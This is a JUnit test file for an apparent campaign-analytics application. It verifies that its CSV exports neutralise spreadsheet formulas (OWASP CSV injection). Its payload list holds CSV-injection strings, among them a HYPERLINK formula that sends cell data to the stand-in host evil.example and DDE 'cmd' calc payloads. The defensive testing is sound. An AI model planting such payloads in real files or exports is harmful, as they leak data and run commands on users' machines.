package com.campaignstudio.export;

import com.campaignstudio.demo.DemoProjects;
import com.campaignstudio.demo.DemoSize;
import com.campaignstudio.importer.ColumnMapping;
import com.campaignstudio.importer.EntityKind;
import com.campaignstudio.importer.ImportPlan;
import com.campaignstudio.importer.ImportReport;
import com.campaignstudio.importer.Importer;
import com.campaignstudio.importer.MappingSuggester;
import com.campaignstudio.importer.RejectionReport;
import com.campaignstudio.ltv.CustomerValueExport;
import com.campaignstudio.ltv.LtvRun;
import com.campaignstudio.ltv.LtvSettings;
import com.campaignstudio.project.Project;
import com.campaignstudio.project.ProjectLocations;
import com.campaignstudio.segments.AudienceExport;
import com.campaignstudio.segments.Segmentation;
import com.campaignstudio.segments.SegmentationSettings;
import com.campaignstudio.segments.Segmenter;
import com.campaignstudio.work.TaskContext;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.PreparedStatement;
import java.util.ArrayList;
import java.util.List;
import java.util.ResourceBundle;
import java.util.Set;
import java.util.stream.IntStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** No CSV file the application writes can make a spreadsheet run a formula (OWASP CSV injection). */
class CsvInjectionTest {

    /** Cells a hostile export or follower profile may carry; each would run in Excel or WPS if written as is. */
    static final List<String> PAYLOADS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "=1+1");

    @TempDir
    static Path folder;
    static Project demo;

    @BeforeAll
    static void makeDemo() throws Exception {
        demo = DemoProjects.create(ProjectLocations.under(folder.resolve("home")), folder.resolve("demo.campaign"),
                DemoSize.SMALL, 5L, TaskContext.silent());
        demo.database().transaction(connection -> {
            try (PreparedStatement followers = connection.prepareStatement(
                    "UPDATE follower SET region = ?, age_band = ? WHERE id = ?");
                 PreparedStatement orders = connection.prepareStatement(
                         "UPDATE customer_order SET customer_ref = ? WHERE customer_ref = "
                                 + "(SELECT MIN(customer_ref) FROM customer_order WHERE customer_ref NOT LIKE '=%' "
                                 + "AND customer_ref NOT LIKE '+%' AND customer_ref NOT LIKE '@%' AND customer_ref NOT LIKE '-%' "
                                 + "AND customer_ref NOT LIKE CHAR(9) || '%' AND customer_ref NOT LIKE CHAR(13) || '%')")) {
                for (int i = 0; i < PAYLOADS.size(); i++) {
                    followers.setString(1, PAYLOADS.get(i));
                    String ageBand = PAYLOADS.get((i + 1) % PAYLOADS.size());
                    followers.setString(2, ageBand.substring(0, Math.min(16, ageBand.length())));
                    followers.setLong(3, i + 1);
                    followers.executeUpdate();
                    orders.setString(1, PAYLOADS.get(i));
                    orders.executeUpdate();
                }
            }
            return null;
        });
    }

    @AfterAll
    static void closeDemo() {
        demo.close();
    }

    @ParameterizedTest
    @CsvSource(delimiterString = "->", quoteCharacter = '`', textBlock = """
            =HYPERLINK("x")      -> '=HYPERLINK("x")
            +cmd|' /C calc'!A0   -> '+cmd|' /C calc'!A0
            @SUM(1)              -> '@SUM(1)
            -2+3                 -> '-2+3
            -12.5                -> -12.5
            -1e5                 -> -1e5
            1299                 -> 1299
            抖音                  -> 抖音
            a=b                  -> a=b
            """)
    void cellsThatASpreadsheetWouldRunGetALeadingApostropheAndNumbersStayNumbers(String cell, String written) {
        assertEquals(written, CsvExport.neutralise(cell));
    }

    @Test
    void tabsAndCarriageReturnsAtTheStartAreNeutralisedToo() {
        assertEquals("'\t=1", CsvExport.neutralise("\t=1"));
        assertEquals("'\r=1", CsvExport.neutralise("\r=1"));
        assertEquals("", CsvExport.neutralise(null));
    }

    @Test
    void theRejectedRowsFileRepeatsHostileCellsAsText() throws Exception {
        StringBuilder file = new StringBuilder("order_id,amount,paid_at,customer\n");
        for (String payload : PAYLOADS) {
            file.append("\"").append(payload.replace("\"", "\"\"")).append("\",\"").append(payload.replace("\"", "\"\""))
                    .append("\",2024-03-05,c1\n");
        }
        Path export = Files.writeString(folder.resolve("=evil.csv"), file);
        ImportReport report = new Importer(demo.database()).check(new ImportPlan(export, EntityKind.ORDERS,
                        MappingSuggester.suggest(EntityKind.ORDERS, List.of("order_id", "amount", "paid_at", "customer")),
                        ImportPlan.Duplicates.SKIP, ImportPlan.RejectionPolicy.IMPORT_GOOD_ROWS),
                TaskContext.silent());
        assertEquals(PAYLOADS.size(), report.rejected());
        Path rejected = folder.resolve("rejected.csv");
        RejectionReport.write(rejected, export.getFileName().toString(), report.rejections(),
                ResourceBundle.getBundle("com.campaignstudio.i18n.messages"));

        List<List<String>> rows = assertSafe(rejected);
        assertEquals("'=evil.csv", rows.get(1).getFirst());
        assertTrue(rows.stream().anyMatch(row -> row.get(3).equals("'=1+1")), rows.toString());
    }

    @Test
    void theAudienceExportWritesStoredProfileTextAsText() throws Exception {
        Segmentation segmentation = new Segmenter(demo.database()).run(SegmentationSettings.defaults("All", 2),
                TaskContext.silent());
        Path audience = folder.resolve("audience.csv");
        AudienceExport.write(demo.database(), segmentation, null, Set.of(0, 1), List.of(AudienceExport.Column.FOLLOWER_ID,
                AudienceExport.Column.REGION, AudienceExport.Column.AGE_BAND), audience);
        List<List<String>> rows = assertSafe(audience);
        assertTrue(rows.stream().anyMatch(row -> row.get(1).equals("'@SUM(1+1)*cmd|' /C calc'!A0")), "payloads reached the file");
    }

    @Test
    void theCustomerValueExportWritesCustomerReferencesAsText() throws Exception {
        Path values = folder.resolve("customer-value.csv");
        CustomerValueExport.write(new LtvRun(demo.database()).run(LtvSettings.defaults(), TaskContext.silent()), values);
        List<List<String>> rows = assertSafe(values);
        assertTrue(rows.stream().anyMatch(row -> row.getFirst().equals("'+cmd|' /C calc'!A0")), "payloads reached the file");
    }

    /** Every cell of the file is text a spreadsheet shows, never a formula; returns the rows. */
    static List<List<String>> assertSafe(Path csv) throws Exception {
        List<List<String>> rows = new ArrayList<>();
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv, StandardCharsets.UTF_8)) {
            for (CsvRecord record : reader) {
                List<String> cells = record.getFields();
                IntStream.range(0, cells.size()).forEach(i -> {
                    String cell = i == 0 && rows.isEmpty() ? cells.get(i).replace("\uFEFF", "") : cells.get(i);
                    assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0
                            || cell.matches("-?\\d+(\\.\\d+)?([eE][-+]?\\d+)?"), csv.getFileName() + " writes a formula: " + cell);
                });
                rows.add(cells);
            }
        }
        return rows;
    }
}
